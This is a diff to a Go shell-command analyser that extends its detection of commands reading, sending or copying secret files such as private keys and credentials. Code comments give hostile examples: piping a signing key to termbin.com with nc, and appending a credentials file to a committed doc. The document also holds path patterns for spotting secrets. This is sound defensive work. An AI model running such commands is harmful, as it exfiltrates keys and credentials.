@@ -32,6 +32,10 @@ type source struct {
 	// interpolates. Printed, that is no worse than what made it; put in
 	// a file that a commit takes in, it reaches every clone (git.go).
 	values string
+	// named says a secrets file is one only by its name (srcSecret:
+	// namedSecret, a service account's key, wp-config.php), which reading
+	// alone does not hold: only sending it or filling a file with it does.
+	named bool
 }
 
 type srcKind int
@@ -78,6 +82,9 @@ func (w *walker) redirIn(r *syntax.Redirect, sc *scope) source {
 		case f[0].ok:
 			if src, ok := w.c.written[w.c.resolve(sc, f[0]).path]; ok { // echo 'DROP …' > x.sql; mysql < x.sql
 				return src
+			}
+			if p := w.c.tilde(f[0].s); namedSecret(p) { // nc termbin.com 9999 < keys/signing.pem
+				return source{kind: srcSecret, text: p, named: true}
 			}
 		}
 		return source{kind: srcFile}
@@ -248,6 +255,9 @@ func (w *walker) printed(st *syntax.Stmt, sc *scope, prev source) source {
 		for _, a := range args[1:] {
 			if a.ok && isSecretPath(a.s) && !publicKey(a.s) {
 				return source{kind: srcSecret, text: a.s}
+			}
+			if a.ok && name != "openssl" && name != "gpg" && namedSecret(a.s) { // cat ~/.conan2/credentials.json >> docs/setup.md: the file's secrets, not its public half
+				return source{kind: srcSecret, text: a.s, named: true}
 			}
 		}
 		if name == "cat" {
@@ -535,6 +545,45 @@ func privateKeyFile(base string) bool {
 		return strings.Contains(stem, "key") || strings.Contains(stem, "priv")
 	}
 	return false
+}
+
+// privateKeyPath reports whether p names a private key: by its file's
+// name (privateKeyFile), or a key's file kept in a directory of keys
+// (keys/mcuboot-signing.pem, secrets/sa-pipeline.json, private/app.der).
+// Not a public key or a certificate (keys/public.pem, keys/ca-cert.pem).
+func privateKeyPath(p string) bool {
+	base := strings.ToLower(path.Base(p))
+	if privateKeyFile(base) {
+		return true
+	}
+	ext := path.Ext(base)
+	switch ext {
+	case ".pem", ".der", ".json", ".jwk":
+	default:
+		return false
+	}
+	if stem := strings.TrimSuffix(base, ext); stem == "" || strings.Contains(stem, "pub") || strings.Contains(stem, "jwks") || certificateFile(base) || strings.Contains(stem, "cert") {
+		return false
+	}
+	for _, d := range strings.Split(strings.ToLower(path.Dir(p)), "/") {
+		switch d {
+		case "keys", "key", "secrets", "secret", "private", "credentials", "creds", "signing":
+			return true
+		}
+	}
+	return false
+}
+
+// namedSecret reports whether p, by its name and wherever it lies, holds
+// a secret: a secrets path (isSecretPath), or a private key
+// (privateKeyPath) or a credentials file (credentialsName) that is not
+// one made for the tests or an example (fixturePath): a working tree's
+// signing keys, service-account keys and app configs with passwords.
+func namedSecret(p string) bool {
+	if isSecretPath(p) {
+		return !publicKey(p)
+	}
+	return (privateKeyPath(p) || credentialsName(path.Base(p))) && !fixturePath(p)
 }
 
 // isSecretPath reports whether p names a file that usually holds secrets.
